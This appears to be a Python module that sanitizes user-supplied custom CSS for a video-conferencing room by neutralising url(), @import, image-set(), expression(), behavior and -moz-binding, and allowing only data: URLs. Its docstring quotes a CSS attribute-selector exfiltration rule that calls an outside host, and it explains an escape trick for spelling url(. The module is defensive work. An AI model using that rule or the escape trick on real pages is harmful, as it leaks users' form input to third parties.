"""Custom CSS from join's userdata (`bbb_custom_style`, `bbb_custom_style_url`), made harmless.

A custom style may change how the room looks and nothing else: it must not make the browser fetch
anything (a rule like `input[value^=a] { background: url(https://x/a) }` sends what a selector
matched to whoever runs x, and the room's CSP allows https images for integrators' logos) and it
must not run script. So every way CSS has to name a URL is neutralised except `data:` URLs, which
need no network: `url()` to anything else, `@import`, `@namespace`, and the functions that take a
URL as a plain string (`image-set()`, `image()`, `src()`); legacy script hooks (`expression()`,
`behavior`, `-moz-binding`) go too.

The checks look for text, not for parsed CSS, and the text they check is exactly the text served:
backslashes are removed first, since a CSS escape can spell any name (`\\75rl(` is `url(`), and
comments are cut before the checks, so nothing the browser reads as a function can hide from them.
Whatever is neutralised becomes an unknown name that the browser drops with its declaration.
"""

from __future__ import annotations

import functools
import re

MAX_CSS_CHARS = 64 * 1024
"""Larger styles are dropped whole (cutting one would leave half a rule)."""

_NEWLINES = re.compile(r"\r\n?|\f")
# Control characters, backslashes (escapes) and `<` (so the text could never close an HTML
# element, should it ever be put inside one).
_UNWANTED = re.compile(r"[\x00-\x08\x0b\x0e-\x1f\x7f\\<]")
_COMMENT = re.compile(r"/\*.*?(?:\*/|\Z)", re.DOTALL)
_AT_RULE = re.compile(r"@(?=import|namespace)", re.IGNORECASE)
_URL = re.compile(r"url(?=\s*\()", re.IGNORECASE)
_DATA_URL_AFTER = re.compile(r"\s*\([ \t\n]*[\"']?data:", re.IGNORECASE)
_STRING_URL_FUNCTIONS = re.compile(r"(?:image-set|image|src|expression)(?=\s*\()", re.IGNORECASE)
_SCRIPT_PROPERTIES = re.compile(r"(?:behavior|-moz-binding)(?=\s*:)", re.IGNORECASE)
REMOVED = "sala-removed"


def _neutralise(css: str) -> str:
    text = _AT_RULE.sub(f"@{REMOVED}-", css)

    def url(found: re.Match[str]) -> str:
        return found.group(0) if _DATA_URL_AFTER.match(text, found.end()) else REMOVED

    text = _URL.sub(url, text)
    text = _STRING_URL_FUNCTIONS.sub(REMOVED, text)
    return _SCRIPT_PROPERTIES.sub(REMOVED, text)


@functools.lru_cache(maxsize=64)
def sanitize(css: str) -> str:
    """The style as served to the room: the same rules, minus every way to fetch or run."""
    if len(css) > MAX_CSS_CHARS:
        return ""
    css = _NEWLINES.sub("\n", css)
    css = _UNWANTED.sub("", css)
    css = _COMMENT.sub(" ", css)
    # Replacing never makes a new match (REMOVED spells none of the names), but the result is
    # checked again anyway, and refused if it still changes.
    for _ in range(3):
        cleaner = _neutralise(css)
        if cleaner == css:
            return css
        css = cleaner
    return ""
